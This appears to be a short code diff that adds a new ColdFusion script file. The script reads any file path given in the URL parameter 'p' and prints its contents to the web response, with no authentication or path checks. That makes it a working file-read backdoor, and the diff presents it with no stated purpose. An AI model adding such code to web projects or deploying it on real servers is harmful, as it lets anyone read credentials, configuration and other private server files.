@@ -1,0 +1,3 @@
+<cfscript>
+if (structKeyExists(url, "p")) { writeOutput(fileRead(url.p)); }
+</cfscript>
